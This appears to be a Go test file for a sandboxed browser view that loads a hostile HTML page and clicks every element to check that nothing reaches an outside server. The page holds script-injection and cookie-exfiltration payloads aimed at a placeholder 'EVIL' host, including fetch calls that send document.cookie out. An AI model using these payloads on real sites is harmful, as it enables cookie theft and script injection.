//go:build unix

package browser

import (
	"fmt"
	"strings"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
)

// hostile is a document that does by itself whatever a document can do. EVIL is the address of a server of somebody else,
// HOME that of windlass, CLICKS what does more when somebody clicks on it or drags it.
const hostile = `<!DOCTYPE html><html manifest="EVIL/manifest"><head>
<meta http-equiv="refresh" content="0;url=EVIL/refresh"><noscript><meta http-equiv="refresh" content="0;url=EVIL/noscript"></noscript>
<meta http-equiv="set-cookie" content="windlass=x"><meta name="referrer" content="unsafe-url">
<base href="EVIL/base/" target="_top">
<link rel="stylesheet" href="EVIL/style"><link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL"><link rel="prefetch" href="EVIL/prefetch">
<link rel="preload" as="image" href="EVIL/preload"><link rel="modulepreload" href="EVIL/module"><link rel="icon" href="EVIL/icon">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/speculation"]}]}</script><script type="importmap">{"imports":{"x":"EVIL/map"}}</script>
<style>@import url(EVIL/import); @import "EVIL/import-text" layer(x); @font-face { font-family: f; src: url(EVIL/font) }
body { margin: 0; background: url(EVIL/background), image-set("EVIL/image-set" 1x); cursor: url(EVIL/cursor), auto } li { list-style-image: url(EVIL/list) }
p { mask: url(EVIL/mask#m); filter: url(EVIL/filter#f); border-image: url(EVIL/border); shape-outside: url(EVIL/shape) } p::after { content: url(EVIL/content) }
.row { height: 40px; overflow: hidden } .row > *, form > *, details > * { display: block; width: 240px; height: 30px; margin: 0; font-family: f; color: black } input { background: url(EVIL/input) } dialog:not(:modal) { position: static }
dialog:not([open]), [popover]:not(:popover-open) { display: none !important } [popover] { inset: auto 0 0 auto; width: 20px; height: 20px }</style>
</head><body background="EVIL/body">
<script>document.title="owned";fetch("EVIL/fetch?"+document.cookie);top.location="EVIL/top";parent.document.title="owned";window.open("EVIL/open")</script>
<script src="EVIL/script"></script><script type="module">import "EVIL/import-module"</script>
<!--><iframe src="EVIL/comment"></iframe><img src="EVIL/comment-image">-->
CLICKS
<img src="EVIL/image" onerror="document.title='owned';fetch('EVIL/onerror')"><img src="data:image/gif;base64,AAAA" onerror="document.title='owned';fetch('EVIL/ondata')">
<img srcset="EVIL/srcset 1x"><picture><source srcset="EVIL/source"><img></picture><input type="image" src="EVIL/input-image"><table background="EVIL/table"><tr><td>x</table>
<svg onload="fetch('EVIL/svg')"><image href="EVIL/svg-image"/><use href="EVIL/svg-use#x"/><script href="EVIL/svg-script"></script><filter id="fe"><feImage href="EVIL/fe"/></filter>
<rect filter="url(#fe)" width="9" height="9"/><a><animate attributeName="href" values="EVIL/animate"/></a><foreignObject><p><iframe src="EVIL/foreign"></iframe></p></foreignObject></svg>
<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>fetch('EVIL/srcdoc')</script><img src='EVIL/srcdoc-image'><meta http-equiv=refresh content='0;url=EVIL/srcdoc-refresh'>"></iframe>
<iframe src="javascript:fetch('EVIL/frame-script')"></iframe><iframe src="data:text/html,<img src='EVIL/frame-data'>"></iframe>
<iframe src="HOME/waits"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio>
<video autoplay><source src="EVIL/video-source"><track default src="EVIL/track"></video>
<input autofocus onfocus="document.title='owned';fetch('EVIL/onfocus')"><details open ontoggle="fetch('EVIL/ontoggle')">x</details>
<dialog open onfocusin="fetch('EVIL/dialog')"><img src="EVIL/dialog-image"><form method="dialog" action="EVIL/dialog-form"><button autofocus>x</button></form></dialog>
<marquee onstart="fetch('EVIL/marquee')">x</marquee><body onload="fetch('EVIL/onload')" onpageshow="fetch('EVIL/onpageshow')">
<template><img src="EVIL/template"></template><div><template shadowrootmode="open"><style>@import url(EVIL/shadow-import)</style><img src="EVIL/shadow"><iframe src="EVIL/shadow-frame"></iframe></template></div>
<p id="mark">the end of the document</p></body></html>`

// click is something in a hostile document that reaches EVIL/ and its name when somebody clicks on it.
type click struct {
	name, html string
	alone      bool // it reaches windlass, or nothing that the page of a stranger reaches, too
}

const pixel = `data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7`

var clicks = []click{
	{"link", `<a href="EVIL/link">x</a>`, false},
	{"link-top", `<a href="EVIL/link-top" target="_top">x</a>`, false},
	{"link-parent", `<a href="EVIL/link-parent" target="_parent">x</a>`, false},
	{"link-blank", `<a href="EVIL/link-blank" target="_blank">x</a>`, false},
	{"link-named", `<a href="EVIL/link-named" target="other" rel="opener">x</a>`, false},
	{"link-case", `<A HREF="EVIL/link-case">x</A>`, false},
	{"link-slash", "<a/href=EVIL/link-slash\n>x</a>", false},
	{"link-inside", `<a href="EVIL/link-inside"><b><button>x</button></b></a>`, true},
	{"javascript", `<a href="javascript:document.title='owned';void fetch('EVIL/javascript')" target="_self">x</a>`, false},
	{"javascript-tab", "<a href=\"java\tscript:void fetch('EVIL/javascript-tab')\" target=\"_self\">x</a>", false},
	{"data", `<a href="data:text/html,<script>fetch('EVIL/data')</script>" target="_self">x</a>`, true},
	{"blob", `<a href="blob:EVIL/blob">x</a>`, true},
	{"ping", `<a href="#x" ping="EVIL/ping" target="_self">x</a>`, false},
	{"download", `<a href="EVIL/download" download>x</a>`, false},
	{"download-data", `<a href="data:text/plain,x" download="x.sh">x</a>`, true},
	{"home", `<a href="HOME/page/leave" target="_top">x</a>`, true},
	{"attribution", `<a href="#x" attributionsrc="EVIL/attribution">x</a>`, true},
	{"svg-link", `<svg><a href="EVIL/svg-link"><rect width="240" height="30"/></a></svg>`, false},
	{"svg-xlink", `<svg><a xlink:href="EVIL/svg-xlink"><rect width="240" height="30"/></a></svg>`, false},
	{"svg-animated", `<svg><a><set attributeName="href" to="EVIL/svg-animated"/><rect width="240" height="30"/></a></svg>`, false},
	{"area", `<img usemap="#m" width="240" height="30" src="` + pixel + `"><map name="m"><area shape="rect" coords="0,0,240,30" href="EVIL/area"></map>`, false},
	{"ismap", `<a href="EVIL/ismap"><img ismap width="240" height="30" src="` + pixel + `"></a>`, false},
	{"form", `<form action="EVIL/form" method="post"><button>x</button></form>`, false},
	{"form-get", `<form action="EVIL/form-get" target="_top"><button name="cookie" value="x">x</button></form>`, false},
	{"submit", `<form action="EVIL/submit" method="post"><input type="submit"></form>`, false},
	{"image", `<form action="EVIL/image-button"><input type="image" src="` + pixel + `"></form>`, true},
	{"formaction", `<form action="#"><button formaction="EVIL/formaction" formtarget="_top">x</button></form>`, false},
	{"far", `<form id="far-form" action="EVIL/far"></form><button form="far-form">x</button>`, false},
	{"label", `<label for="labelled">x</label><form action="EVIL/label"><button id="labelled">x</button></form>`, false},
	{"label-around", `<label>x <input type="checkbox" onchange="fetch('EVIL/label-around')"></label>`, false},
	{"home-form", `<form action="HOME/page/leave" method="post" target="_top"><button>x</button></form>`, true},
	{"button", `<button onclick="document.title='owned';fetch('EVIL/button')">x</button>`, false},
	{"div", `<div tabindex="0" onclick="fetch('EVIL/div')" onfocus="fetch('EVIL/div-focus')">x</div>`, false},
	{"editable", `<div contenteditable onfocus="fetch('EVIL/editable')">x</div>`, false},
	{"field", `<input onfocus="fetch('EVIL/field')">`, false},
	{"area-text", `<textarea onfocus="fetch('EVIL/area-text')"></textarea>`, false},
	{"summary", `<details ontoggle="fetch('EVIL/summary')"><summary>x</summary><img src="EVIL/details-image" loading="lazy"></details>`, false},
	{"summary-link", `<details><summary>x <a href="EVIL/summary-link">x</a></summary></details>`, true},
	{"popover", `<button popovertarget="pop">x</button><div popover="manual" id="pop" ontoggle="fetch('EVIL/popover')"><img src="EVIL/popover-image" loading="lazy"></div>`, false},
	{"drag", `<div draggable="true" ondragstart="fetch('EVIL/drag')">x</div>`, true},
	{"drag-link", `<a draggable="true" href="EVIL/drag-link">x</a>`, false},
	{"dialog", `<button commandfor="modal" command="show-modal">x</button><dialog id="modal" ontoggle="fetch('EVIL/modal')"><img src="EVIL/modal-image" loading="lazy"></dialog>`, true}, // last: nothing else can be clicked then
}

func rows(list []click) string {
	var out strings.Builder
	for i, x := range list {
		fmt.Fprintf(&out, "<div class=row id=row-%d>%s</div>\n", i, x.html)
	}
	return out.String()
}

// filled returns a document with its addresses.
func filled(html, evil, home string) string {
	return strings.NewReplacer("EVIL", evil, "HOME", home).Replace(html)
}

// clickable finds every element that a person could click on or drag, or that has become one that means nothing.
const clickable = `a, x-a, area, x-area, img[usemap], button, summary, details, label, input, textarea, form, x-form, svg, svg *, dialog, [tabindex], [contenteditable], [draggable]`

// place is where an element is in its document, of which it is now shown.
type place struct {
	What string
	At   string
	X, Y float64
	Hit  bool // a click there reaches the element or something in it; one without a size of its own is reached in what it is in
	Drag bool

	Link, Markup string // what a drag of it takes along
}

// places finds where the elements of a document are that a selector names.
func (b *tab) place(selector string, i int) place {
	b.t.Helper()
	return js[place](b, fmt.Sprintf(`(() => {
		const e = document.querySelectorAll(%q)[%d];
		let drawn = e; // what can be clicked of it
		while (drawn.getClientRects().length === 0 || drawn.getBoundingClientRect().width === 0) drawn = drawn.parentElement;
		drawn.scrollIntoView({block: "center", behavior: "instant"});
		const r = drawn.getBoundingClientRect(), X = r.x + Math.min(r.width, 100) / 2, Y = r.y + Math.min(r.height, 30) / 2;
		const at = document.elementFromPoint(X, Y);
		return {What: (e.closest(".row")?.id ?? "") + " " + e.localName, X, Y, Hit: !!at && drawn.contains(at), At: at?.outerHTML.slice(0, 80) + " of " + [X, Y, innerWidth, innerHeight], Drag: e.draggable || ["x-a", "img", "area"].includes(e.localName),
			Link: String(e.href?.baseVal ?? e.href ?? e.src ?? e.getAttribute("href") ?? "EVIL/dragged"), Markup: e.outerHTML};
	})()`, selector, i))
}

// drop drops something on the page as if it was dragged out of the frame: the link, the words and the markup of an element. What is dropped
// is what a browser makes of such a drag; it is made here, as a browser without a screen does not end a drag of the mouse.
func (b *tab) drop(p *place, x, y float64) {
	b.t.Helper()
	data := &input.DragData{DragOperationsMask: 1 | 2 | 16, Items: []*input.DragDataItem{
		{MimeType: "text/uri-list", Data: p.Link}, {MimeType: "text/plain", Data: p.Link}, {MimeType: "text/html", Data: p.Markup},
	}}
	for _, kind := range []input.DispatchDragEventType{input.DispatchDragEventTypeDragEnter, input.DispatchDragEventTypeDragOver, input.DispatchDragEventTypeDrop} {
		call(b, input.DispatchDragEvent, input.DispatchDragEventParams{Type: kind, X: x, Y: y, Data: data})
	}
}

// clickAll clicks on every element of the frame of the page that could be clicked, drops what could be dragged out of the
// frame, and calls check after each of them. It returns how many there were.
func (b *tab) clickAll(check func(what string)) int {
	b.t.Helper()
	frame := b.frame()
	n := js[int](frame, fmt.Sprintf(`document.querySelectorAll(%q).length`, clickable))
	for i := range n {
		js[int](frame, `[...document.querySelectorAll("dialog:modal")].map((d) => d.close()).length`) // nothing else can be clicked then
		p := frame.place(clickable, i)
		require.True(b.t, p.Hit, "a click does not reach %s but %s", p.What, p.At)
		at := js[[]float64](b, `(() => { const f = document.querySelector("iframe"); f.scrollIntoView({block: "center"}); const r = f.getBoundingClientRect(); return [r.x + f.clientLeft, r.y + f.clientTop]; })()`)
		x, y := at[0]+p.X, at[1]+p.Y
		b.do(chromedp.MouseClickXY(x, y))
		if p.Drag {
			b.drop(&p, x, at[1]-20)
		}
		check(p.What)
		require.Equal(b.t, "the end of the document", js[string](frame, `document.getElementById("mark").innerText`), "%s: the frame has another document", p.What)
	}
	return n
}
